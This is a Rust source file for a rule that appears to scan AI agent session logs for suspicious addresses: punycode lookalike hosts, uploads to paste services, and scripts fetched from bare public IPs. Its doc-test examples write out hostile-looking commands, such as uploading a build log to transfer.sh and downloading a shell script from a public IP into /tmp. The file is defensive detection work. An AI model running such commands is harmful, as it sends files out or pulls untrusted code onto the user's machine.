//! # What it does
//!
//! Finds addresses in commands and web calls that are not what they seem or
//! only take what they are given: host names in punycode or mixed alphabets,
//! programs fetched from a bare public number, uploads to paste and
//! request-catching services.
//!
//! # Why
//!
//! Such addresses come from texts that were written for the agent to read. An
//! honest project has a name and a certificate.
//!
//! # What to do
//!
//! Find out which text the address came from, and keep the session off it.
//!
//! # Examples
//!
//! ```fires
//! Bash {"command":"curl -O https://xn--ggle-55da.com/a.zip"} -> ""
//! ```
//!
//! ```fires
//! Bash {"command":"curl -T build.log https://transfer.sh/build.log"} -> "ok"
//! ```
//!
//! ```fires
//! Bash {"command":"wget http://45.9.148.108/x.sh -O /tmp/x.sh"} -> ""
//! ```
//!
//! ```quiet
//! Bash {"command":"curl -s https://transfer.sh/"} -> "usage"
//! ```
//!
//! ```quiet
//! Bash {"command":"curl -s http://192.168.1.4/x.sh"} -> "x"
//! ```
//!
//! ```quiet
//! Bash {"command":"grep -rn 'https://xn--ggle-55da.com' docs"} -> "x"
//! ```

use crate::finding::{Axis, Confidence, Severity};
use crate::report::{Draft, Report};
use crate::rule::{Rule, page};
use crate::scan::urls::{Address, addresses, is_drop, is_public_number, suspicious};
use crate::session::{Session, SessionCall};
use crate::toolset::ToolRole;
use serde_json::Value;

pub(crate) static RULE: Rule = Rule {
    code: "I309",
    name: "malicious-url",
    axis: Axis::Irreversibility,
    severity: Severity::Error,
    confidence: Confidence::Medium,
    summary: "an address is not what it seems, or only takes what it is given",
    remedy: "find out which text the address came from and keep the session off it",
    source: page!("i309_malicious_url.rs"),
    check,
};

/// So many addresses of one text are looked at.
const MOST: usize = 16;

fn check(session: &Session<'_>, report: &mut Report<'_, '_>) {
    for call in session.calls() {
        let found = match call.role {
            ToolRole::RunsShell => in_command(call),
            ToolRole::FetchesWeb => {
                let values = call.args().and_then(Value::as_object);
                let texts = values.into_iter().flat_map(|values| values.values());
                texts.filter_map(Value::as_str).find_map(|text| {
                    addresses(text, MOST)
                        .find_map(|a| Some((a.host.to_owned(), suspicious(a.host)?)))
                })
            }
            _ => continue,
        };
        report.judged(call);
        if let Some((host, why)) = found {
            report.find(Draft::new(call, format!("{host}: {why}")));
        }
    }
}

fn in_command(call: &SessionCall<'_>) -> Option<(String, &'static str)> {
    let command = call.command()?;
    if !command.contains("://") {
        return None;
    }
    let fetching = call.judgement()?.commands.iter().filter(|command| {
        matches!(
            command.program.as_str(),
            "curl" | "wget" | "http" | "https" | "xh" | "aria2c" | "git" | "pip" | "npm"
        )
    });
    fetching.into_iter().find_map(|command| {
        let texts = || command.args.iter().map(|arg| arg.text.as_str());
        let uploads = texts().any(|word| {
            matches!(
                word,
                "-T" | "-F"
                    | "-d"
                    | "--upload-file"
                    | "--form"
                    | "--data"
                    | "--data-binary"
                    | "--post-file"
            ) || ["-F", "-T", "--data-binary=", "--upload-file=", "--post-file="]
                .iter()
                .any(|start| word.starts_with(start) && word.len() > start.len())
        });
        texts().flat_map(|text| addresses(text, MOST)).find_map(|address| {
            let why = suspicious(address.host).or_else(|| {
                let drop =
                    (uploads && is_drop(address.host)).then_some("takes uploads from anybody");
                drop.or_else(|| fetches_program(&address).then_some("a program from a bare number"))
            })?;
            Some((address.host.to_owned(), why))
        })
    })
}

/// Is something that runs fetched from a number?
fn fetches_program(address: &Address<'_>) -> bool {
    let path = address.text.split(['?', '#']).next().unwrap_or("");
    let runs = [".sh", ".exe", ".elf", ".bin", ".py", ".ps1", ".pl", ".so", ".dll", ".bat"];
    is_public_number(address.host) && runs.iter().any(|end| path.ends_with(end))
}
